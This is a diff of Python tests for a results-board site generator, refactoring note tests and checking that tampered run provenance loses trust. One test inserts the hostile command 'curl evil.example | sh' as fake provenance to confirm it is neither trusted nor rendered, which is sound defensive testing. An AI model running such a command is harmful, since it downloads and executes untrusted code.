@@ -116,21 +116,30 @@ def test_an_edited_provenance_is_believed_no_more(folder, make, write, edit):
     assert method_levels(read_trust(folder), board_pages.page(folder).results)["alpha"] == "re-run"
     path = folder / "results" / "alpha-s0.json"
     for change in ({"judge": {"accuracy": 0.5}}, {"command": "curl evil.example | sh"}):
+        write(folder, [result])
         edit(path, lambda content, change=change: content["provenance"].update(change))
         page = board_pages.page(folder)
         assert method_levels(read_trust(folder), page.results)["alpha"] == "claimed"
     assert "evil" not in pages_of(make_site(folder).files)["runs/toy-net-b/alpha.html"].text
 
 
+def remarked(result, reason):
+    """The result with the reason that ``reason(row)`` gives to each row."""
+    content = json.loads(result.to_json())
+    del content["digest"], content["schema"]
+    for row in content["metrics"]:
+        row["reason"] = reason(row)
+    return Result(**content)
+
+
 def test_notes_of_the_first_columns_come_first(folder, definition, everything, write):
     """Hidden notes have the later numbers, so that what is seen counts from 1."""
     definition["details"] = [definition["columns"].pop()]
-    changed = [json.loads(result.to_json()) for result in everything]
-    for content in changed:
-        del content["digest"], content["schema"]
-        for row in content["metrics"]:
-            row["reason"] = f"{content['spec']['method']}: {row['metric']} on {row['split']}"
-    write(folder, [Result(**content) for content in changed], definition)
+    results = [
+        remarked(one, lambda row, name=one.spec.method: f"{name}: {row['metric']} {row['split']}")
+        for one in everything
+    ]
+    write(folder, results, definition)
     page = make_site(folder).files["boards/toy-net-b.html"].decode("utf-8")
     hidden = re.findall(r'<li id="note-\d+" value="\d+"( class="detail")?>', page)
     assert True in map(bool, hidden)
@@ -156,13 +165,12 @@ def test_one_seed_is_no_mean(folder, everything, write, definition, seeds):
 def test_notes_of_further_quantities_come_with_them(folder, definition, everything, write):
     """A remark on a column that is hidden at first is hidden, too, and keeps its number."""
     definition["details"] = [definition["columns"].pop()]
-    changed = [json.loads(result.to_json()) for result in everything]
-    for content in changed:
-        del content["digest"], content["schema"]
-        for row in content["metrics"]:
-            if (row["metric"], row["split"]) == ("nll", "forget"):
-                row["reason"] = "far away"
-    write(folder, [Result(**content) for content in changed], definition)
+
+    def far(row):
+        """The remark on the quantity that is hidden."""
+        return "far away" if (row["metric"], row["split"]) == ("nll", "forget") else row["reason"]
+
+    write(folder, [remarked(result, far) for result in everything], definition)
     page = make_site(folder).files["boards/toy-net-b.html"].decode("utf-8")
     notes = re.findall(r'<li id="note-(\d+)" value="(\d+)"( class="detail")?>(.*)</li>', page)
     assert notes
